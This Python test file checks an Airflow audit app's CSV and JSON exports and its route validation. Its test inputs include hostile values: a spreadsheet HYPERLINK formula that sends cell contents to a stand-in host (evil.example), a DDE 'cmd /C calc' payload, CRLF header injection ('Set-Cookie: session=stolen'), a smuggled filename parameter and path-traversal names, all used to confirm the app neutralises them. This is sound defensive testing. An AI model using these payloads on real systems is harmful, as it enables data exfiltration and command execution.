"""The auditor export and the audit app's answers to odd requests, on a SQLite audit trail.

The app is Airflow's plugin app with its login dependency overridden (the real login is tested
against a real `airflow api-server` in tests/ui): what is checked here is what the routes make
of their parameters, fast, for every route.
"""

from __future__ import annotations

import csv
import io
import json
import re
import warnings
from datetime import UTC, datetime
from urllib.parse import quote

import pytest

from lifecycle.audit import ensure_schema, record_run
from lifecycle.stores.sql import create_engine
from tests.conftest import PROJECT
from tests.unit.test_audit_trail import row

DAY = datetime(2026, 11, 29, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SAFE_DISPOSITION = re.compile(r'attachment; filename="[A-Za-z0-9._-]{1,150}"')
SPREADSHEET_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _raw_csv(rows: list[dict]) -> str:
    from lifecycle.ui.export import as_csv_lines

    return "".join(as_csv_lines(rows))


def _csv(rows: list[dict]) -> list[dict]:
    return list(csv.DictReader(io.StringIO(_raw_csv(rows), newline="")))


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    # A manual run id is whatever its trigger typed; a reason or a tenant id could start so too.
    hostile = row(
        FORMULA,
        DAY,
        dag_id="@SUM(1+1)*cmd|' /C calc'!A0",
        title="+1+1",
        store="-2+3",
        period="\tP6M",
        status="\r=1",
        controller="provider\r=2+2",  # a bare CR is a new row to a spreadsheet: quoted
        reasons=[FORMULA],
        tenants={FORMULA: {"period": "P1Y"}},
        verification="=1+1",
    )
    (cells,) = _csv([hostile])
    assert cells["run_id"] == "'" + FORMULA
    assert cells["dag_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert (cells["title"], cells["store"]) == ("'+1+1", "'-2+3")
    assert (cells["period"], cells["status"]) == ("'\tP6M", "'\r=1")
    assert cells["controller"] == "provider\r=2+2"
    assert '"provider\r=2+2"' in _raw_csv([hostile])
    for name, cell in cells.items():
        assert not cell.startswith(SPREADSHEET_FORMULA_STARTS), name
    # JSON columns stay JSON (their first character is never a formula's).
    assert json.loads(cells["reasons"]) == [FORMULA]
    assert json.loads(cells["tenants"]) == {FORMULA: {"period": "P1Y"}}
    assert json.loads(cells["verification"]) == "=1+1"


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is():
    (cells,) = _csv([row("scheduled__2026-11-29", DAY, remaining=-1, holds={"7": -3})])
    assert (cells["deleted"], cells["attempt"], cells["remaining"]) == ("5", "0", "-1")
    assert json.loads(cells["holds"]) == {"7": -3}
    assert cells["run_id"] == "scheduled__2026-11-29"
    assert cells["logical_date"] == "2026-11-29T00:00:00+00:00"
    assert cells["dry_run"] == "False"


def test_the_json_export_keeps_the_values_as_stored():
    from lifecycle.ui.export import as_json_lines

    (record,) = json.loads("".join(as_json_lines([row(FORMULA, DAY, title="+1")])))
    assert (record["run_id"], record["title"]) == (FORMULA, "+1")


@pytest.mark.parametrize(
    "name",
    [
        "retention-audit-../../x-begin-today.csv",
        'a"; filename=evil.exe; x="',
        "a\r\nSet-Cookie: session=stolen",
        "été-naïve-日本-\u202egpj.csv",
        "nul\x00byte",
        "a" * 10_000,
        "..",
        "",
    ],
)
def test_the_attachment_name_is_plain_ascii_whatever_goes_in(name):
    from lifecycle.ui.export import content_disposition

    header = content_disposition(name)
    assert SAFE_DISPOSITION.fullmatch(header), header
    assert ".." not in header and '="."' not in header
    header.encode("latin-1")  # what Starlette sends; it must never fail mid-response


# -- the app ------------------------------------------------------------------------------------


@pytest.fixture
def client(tmp_path, monkeypatch):
    """The audit app over a two-run SQLite trail, with Airflow's login dependency overridden."""
    with warnings.catch_warnings():  # Starlette's notice that it prefers httpx2
        warnings.simplefilter("ignore")
        from fastapi.testclient import TestClient

    from lifecycle.ui import app as ui

    url = f"sqlite:///{tmp_path / 'audit.db'}"
    engine = create_engine(url)
    ensure_schema(engine)
    record_run(engine, row("scheduled__2026-11-28", DAY.replace(day=28)))
    record_run(engine, row(FORMULA, DAY))
    engine.dispose()
    monkeypatch.setenv("AIRFLOW_CONN_LIFECYCLE_AUDIT", url)
    monkeypatch.setenv("LIFECYCLE_POLICY_DIR", str(PROJECT / "include/policies"))
    ui._audit_engine.cache_clear()
    (login,) = ui.app.router.dependencies
    monkeypatch.setitem(ui.app.dependency_overrides, login.dependency, lambda: None)
    with TestClient(ui.app, raise_server_exceptions=False) as client:
        yield client
    ui._audit_engine().dispose()
    ui._audit_engine.cache_clear()


ODD_NAMES = ["../../x", "a" * 10_000, "cdrs\r\nX-Evil: 1", "cdrs\x1b[2K", "cdrs\x00", "cdrs\n", "é"]
ODD_DAYS = [
    "0001-01-01",
    "9999-12-31",
    "9999-12-31T23:59:59-14:00",
    "99999-01-01",
    "2026-13-01",
    "2026-02-30",
    "0",
    "1700000000",
    "yesterday",
    "\x00",
]
BAD_REQUESTS = [
    *(("/export.csv", {"policy": name}) for name in ODD_NAMES),
    *(("/export.json", {"policy": name}) for name in ODD_NAMES),
    *(("/export.csv", {"start": day}) for day in ODD_DAYS),
    *(("/export.json", {"end": day}) for day in ODD_DAYS),
    # A `/` in a path parameter is another route (a 404); the others reach the route.
    *((f"/policies/{quote(name, safe='')}", {}) for name in ODD_NAMES if "/" not in name),
    *((f"/charts/{quote(name, safe='')}/age.svg", {}) for name in ODD_NAMES if "/" not in name),
    *(
        (f"/charts/{quote(name, safe='')}/deletions.svg", {})
        for name in ODD_NAMES
        if "/" not in name
    ),
    *((f"/runs/{row_id}", {}) for row_id in ("0", "-1", "2147483648", "9" * 30, "1e3", "one")),
]


@pytest.mark.parametrize(
    ("path", "params"),
    [
        pytest.param(path, params, id=ascii(f"{path}{params or ''}")[1:-1][:40])
        for path, params in BAD_REQUESTS
    ],
)
def test_odd_parameters_are_a_422_that_names_the_parameter(client, path, params):
    response = client.get(path, params=params)
    assert response.status_code == 422, (path, params, response.status_code, response.text)
    detail = response.json()["detail"]
    assert re.fullmatch(r"(policy|name|start|end|row_id): not an? [^\x00-\x1f]+", detail), detail
    assert len(response.text) < 300  # the input is never repeated
    assert response.headers["cache-control"] == "no-store"


def test_every_route_answers_well_formed_requests(client):
    for path in (
        "/",
        "/?policy=%00&start=0001-01-01",  # the overview takes no parameters: ignored
        "/policies/cdrs",
        "/runs/2",
        "/charts/overview.svg",
        "/charts/cdrs/deletions.svg",
        "/charts/cdrs/age.svg",
        "/export.csv?policy=cdrs&start=2026-11-28&end=2026-11-29",
        "/export.json?start=1970-01-01&end=2999-12-31",
    ):
        assert client.get(path).status_code == 200, path
    assert client.get("/policies/no_such_policy").status_code == 404
    assert client.get("/runs/2147483647").status_code == 404


def test_the_export_form_left_empty_exports_everything(client):
    # The overview's form sends every field, empty ones too.
    response = client.get("/export.csv", params={"policy": "", "start": "", "end": ""})
    assert response.status_code == 200, response.text
    assert len(list(csv.DictReader(io.StringIO(response.text)))) == 2
    assert response.headers["content-disposition"] == (
        'attachment; filename="retention-audit-all-begin-today.csv"'
    )


def test_the_export_is_neutralised_and_named_safely(client):
    response = client.get("/export.csv", params={"policy": "cdrs", "start": "2026-11-29"})
    assert response.headers["content-disposition"] == (
        'attachment; filename="retention-audit-cdrs-2026-11-29-today.csv"'
    )
    (cells,) = csv.DictReader(io.StringIO(response.text))
    assert cells["run_id"] == "'" + FORMULA
    assert client.get("/export.json").json()[1]["run_id"] == FORMULA
    bad = client.get("/export.json", params={"start": "2026-11-29", "end": "2026-11-28"})
    assert (bad.status_code, bad.json()) == (422, {"detail": "end is before start"})


def test_invalid_policy_files_count_as_needing_attention(client, tmp_path, monkeypatch):
    """The headline said "0 need attention" above a red box of invalid policy files."""
    import shutil

    folder = tmp_path / "policies"
    shutil.copytree(PROJECT / "include/policies", folder)
    (folder / "broken.yaml").write_text("name: broken\n", encoding="utf-8")
    monkeypatch.setenv("LIFECYCLE_POLICY_DIR", str(folder))
    page = client.get("/").text
    headline = re.search(r'data-field="needs-attention">([^<]*)<', page).group(1)
    needing = int(headline.split()[0])
    assert "(of them 1 invalid policy file)" in headline
    rows_needing = len(re.findall(r'<tr[^>]*class="attention"', page))
    assert needing == rows_needing + 1  # the policies that need a look, and the invalid file


def test_counts_read_as_words_one_and_many(client):
    import sqlalchemy as sa

    from lifecycle.audit import read_runs
    from lifecycle.ui import app as ui

    engine = ui._audit_engine()
    (first, _) = read_runs(engine)
    with engine.begin() as conn:  # a run of one batch, one held record, one left behind
        conn.execute(
            sa.text(
                "UPDATE retention_audit SET batches = 1, remaining = 1, holds = :h WHERE id = :i"
            ),
            {"h": '{"7": 1}', "i": first["id"]},
        )
    page = client.get(f"/runs/{first['id']}").text
    assert "in 1 batch<" in page and "in 1 batches" not in page
    assert "hold #7: 1 record<" in page or "hold #7: 1 record," in page
    assert "1 unheld record past the cutoff remains" in page


def test_a_day_count_that_rounds_to_zero_reads_0_not_minus_0():
    from lifecycle.ui import app as ui

    macros = ui.templates.env.get_template("macros.html").module
    assert [str(macros.days(v)) for v in (-0.2, 0.0, 0.4, 89.5, 1234.6)] == [
        "0",
        "0",
        "0",
        "90",
        "1,235",
    ]


def test_the_statement_line_has_no_stray_punctuation(client):
    """cdrs quotes a statement row that ends with a full stop: the page read "gebeld.: “Zes
    maanden”"."""
    page = client.get("/policies/cdrs").text
    assert "gebeld: <span" in page and ".:" not in page
